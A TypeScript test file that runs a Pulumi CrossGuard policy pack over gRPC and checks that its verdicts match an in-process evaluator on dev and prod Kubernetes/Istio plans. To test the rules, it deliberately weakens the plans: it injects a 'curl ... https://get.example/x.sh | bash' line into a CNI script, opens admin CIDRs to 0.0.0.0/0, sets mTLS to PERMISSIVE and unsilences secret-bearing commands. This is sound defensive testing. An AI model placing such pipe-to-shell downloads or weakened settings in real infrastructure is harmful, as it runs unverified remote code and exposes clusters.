// The policy pack as Pulumi runs it: a process serving CrossGuard's analyzer over gRPC on
// loopback, asked what the engine asks during `pulumi preview --policy-pack policy` (Analyze
// with each resource's inputs, AnalyzeStack with every resource and the stack's outputs), with
// the resources of the real program's plan, marshalled as the engine marshals them (secrets and
// unknowns as Pulumi's markers: sdk/go/common/resource/plugin/analyzer_plugin.go at v3.248.0).
// Its verdicts must be the in-process ones (`npm run plan -- --policy`): one definition per rule.
import * as assert from "assert";
import { ChildProcess } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
// @grpc/grpc-js and google-protobuf come with @pulumi/pulumi, whose generated clients use them.
import * as grpc from "@grpc/grpc-js";
import { Empty } from "google-protobuf/google/protobuf/empty_pb";
import { Struct } from "google-protobuf/google/protobuf/struct_pb";
import * as analyzer from "@pulumi/pulumi/proto/analyzer_pb";
import { AnalyzerClient } from "@pulumi/pulumi/proto/analyzer_grpc_pb";
import { RecordedResource, redact } from "../plan/mocks";
import { evaluatePlan } from "../policy/inProcess";
import { RULES, UNKNOWN } from "../policy/rules";
import { compiledDir, PROJECT_DIR, runInBackground, startPlugin } from "./harness";

const POLICY_DIR = path.join(PROJECT_DIR, "policy");
const UNKNOWN_STRING = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"; // plugin.UnknownStringValue

interface Dump {
    stack: string;
    outputs: Record<string, unknown>;
    resources: RecordedResource[];
}

/** The plan's resources as the engine hands them to the pack, from the compiled dumper (one plan per process). */
async function dumpPlan(stack: string): Promise<Dump> {
    const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "policy-plan-")), "plan.json");
    const r = await runInBackground(process.execPath, [path.join(compiledDir(), "test", "policyPlanDump.js"), stack, out]);
    assert.strictEqual(r.status, 0, r.stderr);
    return JSON.parse(fs.readFileSync(out, "utf8")) as Dump;
}

interface Diagnostic {
    policy: string;
    level: "advisory" | "mandatory";
    message: string;
    urn: string;
}

class Pack {
    private constructor(
        private readonly proc: ChildProcess,
        private readonly client: AnalyzerClient,
    ) {}

    /**
     * Starts policy/ with Pulumi's own policy runner (@pulumi/pulumi's cmd/run-policy-pack, what the
     * Node.js language host runs for `--policy-pack`): TypeScript compiled with type checking, the
     * pack printing its port and serving. No engine is listening at the address it is given; the
     * pack only talks to it to log.
     */
    static async start(): Promise<Pack> {
        const runner = path.join(PROJECT_DIR, "node_modules", "@pulumi", "pulumi", "cmd", "run-policy-pack");
        const { proc, address } = await startPlugin(runner, ["."], POLICY_DIR);
        return new Pack(proc, new AnalyzerClient(address, grpc.credentials.createInsecure()));
    }

    stop(): void {
        this.client.close();
        this.proc.kill();
    }

    info(): Promise<analyzer.AnalyzerInfo> {
        return new Promise((resolve, reject) => this.client.getAnalyzerInfo(new Empty(), (e, r) => (e ? reject(e) : resolve(r))));
    }

    analyze(r: Pick<RecordedResource, "urn" | "type" | "name" | "inputs" | "additionalSecretOutputs">): Promise<Diagnostic[]> {
        const req = describeResource(new analyzer.AnalyzeRequest(), r);
        return new Promise((resolve, reject) => this.client.analyze(req, (e, resp) => (e ? reject(e) : resolve(diagnostics(resp)))));
    }

    analyzeStack(resources: Array<Pick<RecordedResource, "urn" | "type" | "name" | "inputs" | "additionalSecretOutputs">>): Promise<Diagnostic[]> {
        const req = new analyzer.AnalyzeStackRequest();
        // Stack policies get each resource's planned outputs; in a preview, what the program's
        // Kubernetes objects and commands declared (their inputs) is in them.
        req.setResourcesList(resources.map((r) => describeResource(new analyzer.AnalyzerResource(), r)));
        return new Promise((resolve, reject) => this.client.analyzeStack(req, (e, resp) => (e ? reject(e) : resolve(diagnostics(resp)))));
    }
}

type Described = analyzer.AnalyzeRequest | analyzer.AnalyzerResource;

function describeResource<T extends Described>(msg: T, r: Pick<RecordedResource, "urn" | "type" | "name" | "inputs" | "additionalSecretOutputs">): T {
    msg.setUrn(r.urn);
    msg.setType(r.type);
    msg.setName(r.name);
    msg.setProperties(Struct.fromJavaScript(r.inputs as never));
    const o = new analyzer.AnalyzerResourceOptions();
    o.setAdditionalsecretoutputsList([...(r.additionalSecretOutputs ?? [])]);
    msg.setOptions(o);
    return msg;
}

function diagnostics(resp: analyzer.AnalyzeResponse): Diagnostic[] {
    return resp.getDiagnosticsList().map((d) => {
        const description = RULES.find((r) => r.name === d.getPolicyname())?.description ?? "";
        // A violation reported as a string comes back as "<description>\n<message>" (server.js, makeReportViolationFun).
        const message = d.getMessage().startsWith(`${description}\n`) ? d.getMessage().slice(description.length + 1) : d.getMessage();
        return { policy: d.getPolicyname(), level: d.getEnforcementlevel() === analyzer.EnforcementLevel.MANDATORY ? "mandatory" : "advisory", message, urn: d.getUrn() };
    });
}

const rootStack = (dump: Dump) => ({
    urn: `urn:pulumi:${dump.stack}::oslo-mesh::pulumi:pulumi:Stack::oslo-mesh-${dump.stack}`,
    type: "pulumi:pulumi:Stack",
    name: `oslo-mesh-${dump.stack}`,
    inputs: dump.outputs,
    additionalSecretOutputs: [],
});

async function packVerdicts(pack: Pack, dump: Dump): Promise<Diagnostic[]> {
    const perResource: Diagnostic[] = [];
    for (const r of dump.resources) perResource.push(...(await pack.analyze(r)));
    return [...perResource, ...(await pack.analyzeStack([rootStack(dump), ...dump.resources]))];
}

const key = (rule: string, level: string, message: string) => `${rule} [${level}] ${message}`;

describe("policy pack: served over gRPC as `pulumi preview --policy-pack policy` runs it", function () {
    this.timeout(180000);
    let pack: Pack;
    const dumps = new Map<string, Dump>();

    before(async () => {
        // The pack starts while the two plans run.
        const started = Pack.start();
        started.then((p) => (pack = p)).catch(() => undefined);
        const stacks = ["dev", "prod"];
        (await Promise.all(stacks.map(dumpPlan))).forEach((d, i) => dumps.set(stacks[i], d));
        await started;
    });
    after(() => pack?.stop());

    it("announces every rule with its level", async () => {
        const info = await pack.info();
        assert.strictEqual(info.getName(), "oslo-mesh");
        const policies = info.getPoliciesList().map((p) => `${p.getName()}:${p.getEnforcementlevel() === analyzer.EnforcementLevel.MANDATORY ? "mandatory" : "advisory"}`);
        assert.deepStrictEqual(policies, RULES.map((r) => `${r.name}:${r.enforcementLevel}`));
    });

    /** The pack's verdicts and the offline ones on the same resources, each as "rule [level] message". */
    async function bothVerdicts(dump: Dump): Promise<{ fromPack: string[]; inProcess: string[] }> {
        const fromPack = (await packVerdicts(pack, dump)).map((d) =>
            d.message.startsWith("not checked during preview: ") ? key(d.policy, "not checked", d.message.slice("not checked during preview: ".length)) : key(d.policy, d.level, d.message),
        );
        const plan = { stack: dump.stack, outputs: dump.outputs, resources: dump.resources.map((r) => ({ ...r, inputs: redact(r.inputs) as Record<string, unknown> })) };
        const inProcess = evaluatePlan(plan).map((v) => key(v.rule, v.undetermined ? "not checked" : v.enforcementLevel, v.message));
        return { fromPack: fromPack.sort(), inProcess: inProcess.sort() };
    }

    /** The plan's resources broken the ways a pull request could break them, one per kind of rule. */
    function broken(dump: Dump): Dump {
        const script = (r: RecordedResource, edit: (s: string) => string) => ({ ...r, inputs: { ...r.inputs, create: edit(String(r.inputs.create)), update: edit(String(r.inputs.update)) } });
        const resources = dump.resources.map((r) => {
            if (r.type.endsWith(":MeshPolicy")) return { ...r, inputs: { ...r.inputs, spec: { peers: [{ mtls: { mode: "PERMISSIVE" } }] } } };
            if (r.type === "kubernetes:helm.sh/v3:Chart" && typeof r.inputs.values === "object") {
                const values = JSON.parse(JSON.stringify(r.inputs.values));
                values.global.tag = "latest";
                delete values.pilot.resources.limits;
                return { ...r, inputs: { ...r.inputs, values } };
            }
            if (r.type === "command:remote:Command" && String(r.inputs.create).includes("readonly ADMIN_CIDRS=")) return script(r, (t) => t.replace(/readonly ADMIN_CIDRS=\([^)]*\)/, "readonly ADMIN_CIDRS=('0.0.0.0/0')"));
            if (r.name.endsWith("-kubeconfig")) return { ...r, inputs: { ...r.inputs, logging: "stdoutAndStderr" }, additionalSecretOutputs: [] };
            if (r.name.endsWith("-cni")) return script(r, (t) => t.replace("curl -fsSL", "curl -fsSL https://get.example/x.sh | bash\ncurl -fsSL"));
            return r;
        });
        return { ...dump, resources };
    }

    for (const stack of ["dev", "prod"]) {
        it(`${stack}: the pack's verdicts on the program's resources are the offline plan's`, async () => {
            const { fromPack, inProcess } = await bothVerdicts(dumps.get(stack)!);
            assert.deepStrictEqual(fromPack, inProcess);
            assert.ok(!inProcess.some((v) => v.includes("[mandatory]")), `the committed ${stack} passes:\n${inProcess.join("\n")}`);
        });

        it(`${stack}: and on them broken as a pull request could break them`, async () => {
            const { fromPack, inProcess } = await bothVerdicts(broken(dumps.get(stack)!));
            assert.deepStrictEqual(fromPack, inProcess);
            const rules = new Set(inProcess.filter((v) => v.includes("[mandatory]")).map((v) => v.split(" ")[0]));
            const expected = ["secret-commands-silent", "downloads-verified", ...(stack === "prod" ? ["prod-strict-mtls", "admin-access-closed", "no-latest-image", "resource-limits"] : [])];
            for (const rule of expected) assert.ok(rules.has(rule), `${rule} among ${[...rules].join(", ")}`);
        });
    }

    it("fails prod with a weakened MeshPolicy (mandatory, on that resource)", async () => {
        const dump = dumps.get("prod")!;
        const resources = dump.resources.map((r) =>
            r.type.endsWith(":MeshPolicy") ? { ...r, inputs: { ...r.inputs, spec: { peers: [{ mtls: { mode: "PERMISSIVE" } }] } } } : r,
        );
        const mp = resources.find((r) => r.type.endsWith(":MeshPolicy"))!;
        const found = (await pack.analyzeStack([rootStack(dump), ...resources])).filter((d) => d.policy === "prod-strict-mtls");
        assert.deepStrictEqual(found, [{ policy: "prod-strict-mtls", level: "mandatory", urn: mp.urn, message: 'the MeshPolicy `default` is not STRICT (peers [{"mtls":{"mode":"PERMISSIVE"}}]): prod needs peers [{mtls: {}}]' }]);
    });

    it("a stack named prod is held to prod's rules whatever environment it declares; an unnamed one must say", async () => {
        const dump = dumps.get("prod")!;
        const weakened = dump.resources.filter((r) => !r.type.endsWith(":MeshPolicy"));
        const declared = { ...rootStack(dump), inputs: { ...dump.outputs, environment: "staging" } };
        assert.ok((await pack.analyzeStack([declared, ...weakened])).some((d) => d.policy === "prod-strict-mtls" && d.level === "mandatory"));
        const renamed = (urn: string) => urn.replace("urn:pulumi:prod::", "urn:pulumi:qa::");
        const qa = [{ ...rootStack(dump), urn: renamed(rootStack(dump).urn), inputs: {} }, ...weakened.map((r) => ({ ...r, urn: renamed(r.urn) }))];
        const found = await pack.analyzeStack(qa);
        assert.ok(found.length > 0 && found.every((d) => d.level === "mandatory" && /cannot tell this stack's environment/.test(d.message)));
    });

    it("a value known only at `pulumi up` is reported as not checked, never as a violation", async () => {
        const chart = dumps.get("prod")!.resources.find((r) => r.type === "kubernetes:helm.sh/v3:Chart")!;
        const found = await pack.analyze({ ...chart, inputs: { ...chart.inputs, values: UNKNOWN_STRING } });
        assert.deepStrictEqual(found.map((d) => `${d.policy} ${d.level} ${d.message}`).sort(), [
            "no-latest-image advisory not checked during preview: the istio chart's values are known only after pulumi up",
            "resource-limits advisory not checked during preview: the istio chart's values are known only after pulumi up",
        ]);
        assert.notStrictEqual(UNKNOWN_STRING, UNKNOWN, "the wire marker is not the plan's");
    });
});
